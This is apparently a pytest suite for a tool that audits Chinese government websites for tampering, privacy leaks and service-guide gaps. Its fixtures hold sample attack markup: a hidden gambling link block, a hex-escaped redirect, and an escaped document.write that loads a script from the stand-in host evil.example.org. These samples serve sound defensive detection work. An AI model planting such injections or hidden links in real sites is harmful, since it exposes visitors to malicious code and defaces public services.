"""Content scan (zwgk.crawlers.content_scan) and the content and 办事服务 rules on real extraction.

Pages are parsed by the crawler's own ``extract_page`` (which calls the content scan), put into a
snapshot and judged by the real national rubric.
"""

from __future__ import annotations

import datetime as dt
import json

import pytest

from zwgk.crawlers import content_scan
from zwgk.crawlers.content_scan import is_resident_id, load_lists, mask_number
from zwgk.crawlers.extract import extract_page
from zwgk.indicators import load_rubric
from zwgk.indicators.rules import RULES
from zwgk.model import Page, SiteSnapshot, Unit, finding_in_force

HOME = "http://www.example.gov.cn/"
VALID_ID = "110101199003077774"  # GB 11643 check digit right
LOOKALIKE = "110101199003077771"  # same digits, wrong check digit: an order number
UNIT = Unit("u1", "示例市人民政府", "市", "portal", HOME)


def page(url: str, html: str, kind: str) -> Page:
    ex = extract_page(url, html, kind)
    return Page(url=url, status=200, outcome="ok", kind=kind, title=ex.title, facts=ex.facts)


def snapshot(*pages: Page, unit: Unit = UNIT) -> SiteSnapshot:
    snap = SiteSnapshot(unit=unit, homepage=HOME, as_of=dt.date(2026, 11, 20))
    for p in pages:
        snap.pages[p.url] = p
    return snap


def run(rule: str, snap: SiteSnapshot):
    rubric = load_rubric("national-2019")
    return list(RULES[rule](snap, rubric.rules[rule], rubric))


def html(title: str = "示例市人民政府", body: str = "", head: str = "") -> str:
    return f"<html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


# ---------------------------------------------------------------- the scan


def test_gambling_vocabulary_is_seen_through_pinyin_digits_lookalikes_and_spacing():
    body = (
        '<div style="display:none"><a href="http://x.example.com/">ｂｏｃａｉ官网</a></div>'
        "<p>6合彩 与 百 家 乐 天天开奖</p><p>僰彩导航</p>"
    )
    facts = extract_page(HOME, html(body=body), "home").facts["content"]
    terms = {(h["term"], h["where"]) for h in facts["illegal"]}
    assert ("bocai", "hidden") in terms
    assert {"六合彩", "百家乐"} <= {t for t, w in terms if w == "text"}
    assert facts["hidden_links"] == [
        {"url": "http://x.example.com/", "text": "ｂｏｃａｉ官网", "how": "display:none", "illegal": True}
    ]


def test_enforcement_news_and_a_single_word_in_the_text_are_not_illegal_content():
    body = "<p>我县严厉打击网络赌博，查处百家乐、六合彩等违法犯罪活动。</p><p>警方提醒：远离体育投注。</p>"
    assert extract_page(HOME, html(body=body), "article").facts["content"]["illegal"] == []


def test_hidden_government_links_and_visible_external_links_are_not_hidden_links():
    body = (
        '<div class="hide"><a href="http://www.gov.cn/">中国政府网</a></div>'
        '<a href="http://www.example.com/">合作媒体</a>'
    )
    facts = extract_page(HOME, html(body=body, head="<style>.hide{display:none}</style>"), "home").facts
    assert facts["content"]["hidden_links"] == []


def test_script_redirects_and_document_write_to_non_government_hosts_even_escaped():
    body = (
        "<script>document.write(unescape('%3Cscript src=\"http://evil.example.org/a.js\"%3E%3C/script%3E'));</script>"
        "<script>window.location.href='\\x68ttp://bc.example.com/';</script>"
        "<script>location.href='http://www.other.gov.cn/';</script>"
    )
    redirects = extract_page(HOME, html(body=body), "home").facts["content"]["redirects"]
    assert {(r["url"], r["how"]) for r in redirects} == {
        ("http://evil.example.org/a.js", "document.write"),
        ("http://bc.example.com/", "location"),
    }


def test_resident_ids_are_checksum_validated_and_only_masked_numbers_are_stored():
    assert is_resident_id(VALID_ID) and not is_resident_id(LOOKALIKE)
    assert mask_number(VALID_ID) == "110101********7774" and mask_number("13912345678") == "139****5678"
    body = (
        f"<table><tr><td>申请人：张某</td><td>身份证号：{VALID_ID}</td><td>订单号：{LOOKALIKE}</td></tr></table>"
        "<p>申请人李某，手机13912345678，住址某某小区。</p>"
        + "<p>"
        + "本公示期为五个工作日，如有异议请书面反映。" * 4
        + "</p><p>咨询电话：13800001111</p>"
    )
    facts = extract_page(HOME, html(body=body), "article").facts
    privacy = facts["content"]["privacy"]
    assert [(h["kind"], h["masked"]) for h in privacy] == [("id", "110101********7774"), ("mobile", "139****5678")]
    stored = json.dumps(facts, ensure_ascii=False)
    for number in (VALID_ID, LOOKALIKE, "13912345678"):
        assert number not in stored  # never the full number, not even a neighbour's in an excerpt


def test_misspelt_terms_and_sensitive_words_are_matched(tmp_path, monkeypatch):
    facts = extract_page(HOME, html(body="<p>坚持中国共产觉的领导</p>"), "article").facts["content"]
    assert facts["wording"][0]["match"] == "中国共产觉" and facts["wording"][0]["right"] == "中国共产党"
    # evaluators extend the lists without code: a file in $ZWGK_CONTENT_LISTS adds terms
    (tmp_path / "lists.toml").write_text('[wording.terms]\n"政务公开工做" = "政务公开工作"\n', encoding="utf-8")
    monkeypatch.setenv(content_scan.ENV_DIR, str(tmp_path))
    load_lists.cache_clear()
    try:
        facts = extract_page(HOME, html(body="<p>做好政务公开工做</p>"), "article").facts["content"]
        assert facts["wording"][0]["right"] == "政务公开工作"
    finally:
        monkeypatch.delenv(content_scan.ENV_DIR)
        load_lists.cache_clear()


def test_a_broken_extra_list_is_a_clear_error(tmp_path):
    (tmp_path / "lists.toml").write_text("[wording.terms\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"lists\.toml: cannot read content word list"):
        load_lists(str(tmp_path))


# ---------------------------------------------------------------- rules: strong evidence and review candidates


def test_tampering_seen_where_editors_never_write_is_in_force_at_once():
    home = page(
        HOME,
        html(
            title="澳门新葡京娱乐城-官方网站",
            body='<div style="width:0;height:0;overflow:hidden"><a href="http://x.example.com/">娱乐城</a></div>',
        ),
        "home",
    )
    art = page(HOME + "a.html", html(body=f"<p>申请人张某，身份证号{VALID_ID}</p>"), "article")
    snap = snapshot(home, art)
    [title] = run("CONTENT-TITLE", snap)
    assert title.subject == HOME and title.evidence["confidence"] == "strong" and title.evidence["strong_reason"]
    assert title.evidence["title"] == "澳门新葡京娱乐城-官方网站"
    [hidden] = run("CONTENT-HIDDEN-LINK", snap)  # hidden and worded as gambling: an injection
    assert hidden.evidence["links"][0]["url"] == "http://x.example.com/" and hidden.severity == "veto"
    assert hidden.evidence["confidence"] == "strong"
    [illegal] = run("CONTENT-ILLEGAL", snap)
    assert illegal.subject == HOME and illegal.evidence["confidence"] == "strong"
    [privacy] = run("PRIVACY-ID", snap)  # checksum valid, beside 申请人/身份证
    assert privacy.subject == art.url and privacy.evidence["confidence"] == "strong"
    assert VALID_ID not in json.dumps(privacy.evidence) + privacy.message
    assert all(finding_in_force(f) for f in (title, hidden, illegal, privacy))


def test_the_same_signals_without_corroboration_go_to_review():
    # a hover menu of media sites is hidden too; a title unlike the name may be a slogan;
    # a bare number with no personal label next to it may be a sample
    home = page(
        HOME,
        html(
            title="奋进新时代 建设新家园",
            body='<ul style="display:none"><li><a href="http://www.people.com.cn/">人民网</a></li></ul>'
            '<script>window.location.href="http://www.partner-portal.com/x";</script>',
        ),
        "home",
    )
    art = page(HOME + "a.html", html(body=f"<p>号码格式示例：{VALID_ID}</p>"), "article")
    snap = snapshot(home, art)
    found = [
        *run("CONTENT-TITLE", snap),
        *run("CONTENT-HIDDEN-LINK", snap),
        *run("CONTENT-REDIRECT", snap),
        *run("PRIVACY-ID", snap),
    ]
    assert sorted(f.rule for f in found) == ["CONTENT-HIDDEN-LINK", "CONTENT-REDIRECT", "CONTENT-TITLE", "PRIVACY-ID"]
    for f in found:
        assert f.evidence["confidence"] == "review" and f.evidence["review_reason"], f.rule
        assert not finding_in_force(f)


def test_a_homepage_titled_after_the_site_is_not_a_replaced_title():
    home = page(HOME, html(title="首页-示例市人民政府门户网站"), "home")
    assert run("CONTENT-TITLE", snapshot(home)) == []


# ---------------------------------------------------------------- 办事服务 rules


GUIDE_ROWS = "".join(
    f"<tr><th>{c}</th><td>…</td></tr>"
    for c in (
        "事项名称",
        "设定依据",
        "申请条件",
        "申请材料",
        "办理地点",
        "受理机构",
        "收费标准",
        "办理时间",
        "咨询电话",
        "办理流程",
    )
)


def test_service_entry_guides_and_forms_are_judged():
    home = page(HOME, html(body='<div class="nav"><a href="/bsfw/">办事服务</a></div>'), "home")
    full = page(
        HOME + "bsfw/1.html",
        html(title="社会团体登记办事指南_示例市", body=f"<table>{GUIDE_ROWS}</table><a href='/f/a.doc'>申请表下载</a>"),
        "article",
    )
    short = page(
        HOME + "bsfw/2.html",
        html(
            title="残疾人证办理办事指南",
            body="<table><tr><th>事项名称</th></tr><tr><th>办理地点</th></tr></table><a href='/f/b.doc'>申请表</a>",
        ),
        "article",
    )
    dead = Page(url=HOME + "f/b.doc", status=404, outcome="broken", kind="attachment")
    alive = Page(url=HOME + "f/a.doc", status=200, outcome="ok", kind="attachment")
    snap = snapshot(home, full, short, dead, alive)
    assert run("SVC-NONE", snap) == [] and run("SVC-EXTERNAL", snap) == []
    [guide] = run("SVC-GUIDE", snap)
    assert guide.subject == short.url and "设定依据" in guide.evidence["missing"] and guide.severity == "deduct"
    assert [f.subject for f in run("SVC-FORM", snap)] == [HOME + "f/b.doc"]
    # unusable services: every guide incomplete (at least veto_min_guides of them) → all vetoes
    many = [
        page(
            HOME + f"bsfw/{i}.html",
            html(title=f"事项{i}办事指南", body="<table><tr><th>事项名称</th></tr></table>"),
            "article",
        )
        for i in range(3)
    ]
    assert {f.severity for f in run("SVC-GUIDE", snapshot(home, *many))} == {"veto"}


def test_services_only_on_a_platform_are_left_to_the_evaluator_and_none_at_all_is_a_candidate():
    platform = page(HOME, html(body='<a href="http://www.zjzwfw.gov.cn/">浙江政务服务网</a>'), "home")
    [ext] = run("SVC-EXTERNAL", snapshot(platform))
    assert ext.evidence["services_unjudged"] and ext.severity == "info"
    bare = page(HOME, html(body='<a href="/zwgk/">政务公开</a>'), "home")
    [none] = run("SVC-NONE", snapshot(bare))
    assert none.evidence == {**none.evidence, "confidence": "review", "services_unjudged": True}
    no_services = Unit("u2", "示例市档案局", "市", "department", HOME, has_services=False)
    assert run("SVC-NONE", snapshot(bare, unit=no_services)) == []


def test_leaders_wrong_title_or_character_against_the_maintained_list(tmp_path, monkeypatch):
    (tmp_path / "leaders.toml").write_text(
        'source = "示例县人民政府 领导信息"\nas_of = "2026-11-30"\n'
        '[[leader]]\nname = "张三丰"\ntitles = ["县委副书记", "县长"]\nunit = "示例县人民政府"\n',
        encoding="utf-8",
    )
    monkeypatch.setenv(content_scan.ENV_DIR, str(tmp_path))
    load_lists.cache_clear()
    try:

        def hits(text: str):
            wording = extract_page(HOME + "a.html", html(body=f"<p>{text}</p>"), "article").facts["content"]["wording"]
            return [(h["list"], h["match"]) for h in wording]

        assert hits("副县长张三丰主持会议") == [("leader_title", "副县长张三丰")]
        assert hits("县长张三峰主持会议") == [("leader_name", "县长张三峰")]
        assert hits("县委副书记、县长张三丰主持会议") == [] and hits("副县长李四主持会议") == []
        art = page(HOME + "a.html", html(body="<p>副县长张三丰主持会议</p>"), "article")
        [f] = run("WORDING-LEADER", snapshot(art))
        assert f.evidence["confidence"] == "review" and "张三丰" in f.message
    finally:
        monkeypatch.delenv(content_scan.ENV_DIR)
        load_lists.cache_clear()


def test_the_conac_badge_script_and_dead_service_links_are_not_findings():
    badge = (
        "<script>document.write(unescape(\"%3Cscript src='http://dcs.conac.cn/js/36/000/0000/6088/CA6088.js' "
        "type='text/javascript'%3E%3C/script%3E\"));</script>"
    )
    assert extract_page(HOME, html(body=badge), "home").facts["content"]["redirects"] == []
    home = page(HOME, html(body='<a href="http://www.old1zwfw.gov.cn/">某某政务服务网（旧版）</a>'), "home")
    dead = Page(url="http://www.old1zwfw.gov.cn/", status=None, outcome="broken", kind="other", error="NXDOMAIN")
    assert [f.rule for f in run("SVC-NONE", snapshot(home, dead))] == ["SVC-NONE"]
    assert run("SVC-EXTERNAL", snapshot(home, dead)) == []
